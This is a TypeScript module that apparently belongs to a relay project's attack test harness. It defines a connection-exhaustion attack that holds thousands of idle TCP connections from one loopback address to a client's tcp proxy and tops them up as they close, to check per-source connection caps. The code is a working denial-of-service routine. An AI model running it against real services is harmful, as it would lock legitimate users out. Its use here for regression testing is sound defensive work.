// One source address (127.0.0.2) opens thousands of idle connections to the honest client's tcp
// proxy and keeps topping them up as the relay closes some: before per-source caps they took
// every stream the client's session allows and the honest visitor (from 127.0.0.1) was refused
// (issue 22, finding 10). Bounded at HELD connections open and MAX_ATTEMPTS connects in all.
import { connect, type Socket } from 'node:net'
import type { Attack } from './attack.js'

const HELD = 4_200
const MAX_ATTEMPTS = 50_000
const SOURCE = '127.0.0.2'
const CONNECT_CONCURRENCY = 200
/** How often the attacker looks for connections the relay closed, to open new ones. */
const TOP_UP_MS = 50

export const idleVisitorsOneSource: Attack = {
  name: 'idle-visitors-one-source',
  what: `${HELD.toLocaleString('en-US')} idle connections from one address to the honest client's tcp proxy, topped up`,
  run: async (target, signal) => {
    const open = new Set<Socket>()
    let attempts = 0
    let closedByRelay = 0
    const connectOne = async (): Promise<void> => {
      attempts++
      const socket = connect({ host: target.host, port: target.tcpPort, localAddress: SOURCE })
      open.add(socket)
      socket.on('error', () => {})
      socket.once('close', () => { if (open.delete(socket)) closedByRelay++ })
      await new Promise<void>((resolve) => { socket.once('connect', resolve); socket.once('close', () => { resolve() }) })
    }
    while (!signal.aborted && attempts < MAX_ATTEMPTS) {
      const want = Math.min(HELD - open.size, MAX_ATTEMPTS - attempts)
      let started = 0
      await Promise.all(Array.from({ length: Math.min(CONNECT_CONCURRENCY, want) }, async () => {
        while (started < want && !signal.aborted) { started++; await connectOne() }
      }))
      await new Promise((resolve) => setTimeout(resolve, TOP_UP_MS))
    }
    const held = open.size
    for (const s of [...open]) { open.delete(s); s.destroy() }
    return { sent: attempts, unit: 'connects', note: `${held} held open at the end, ${closedByRelay} closed or reset by the relay` }
  },
}
